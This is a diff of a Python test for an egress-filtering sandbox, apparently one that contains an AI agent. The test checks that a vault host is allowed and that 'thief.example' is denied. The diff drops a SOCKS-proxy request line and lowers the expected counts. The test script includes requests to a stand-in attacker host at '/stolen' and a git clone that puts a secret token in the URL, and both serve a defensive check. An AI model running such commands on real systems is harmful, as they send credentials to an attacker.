@@ -358,19 +358,18 @@ def test_tier_allow_puts_values_in_with_and_without_the_proxy(box_in_world, vaul
     result = box.sh(f"""\
 {ask} https://vault.example/check
 {ask} --noproxy '*' https://vault.example/check
-{ask} --proxy socks5h://127.0.0.1:3128 https://vault.example/check
 git clone -q "https://x:$VAULT_TOKEN@vault.example/repo.git" clone 2>/dev/null; echo git $?
 {ask} https://thief.example/stolen; echo
 {ask} --noproxy '*' https://thief.example/stolen
 """)
 
     lines = result.stdout.splitlines()
-    assert lines[:3] == ["200", "200", "200"], result.stdout + result.stderr
+    assert lines[:2] == ["200", "200"], result.stdout + result.stderr
     assert "thief.example is not among the domains that are allowed" in result.stderr
     assert not [request for request in vault.requests() if request["at"] == "203.0.113.84"]
     log = [json.loads(line) for line in box.claudebox("--log", "--json").stdout.splitlines()]
     decisions = [(line["host"], line["verdict"]) for line in log if line["kind"] == "decision"]
-    assert decisions.count(("vault.example", "allowed")) >= 3
+    assert decisions.count(("vault.example", "allowed")) >= 2
     assert ("thief.example", "denied") in decisions
     assert VALUE not in result.stdout + result.stderr + json.dumps(log)
 
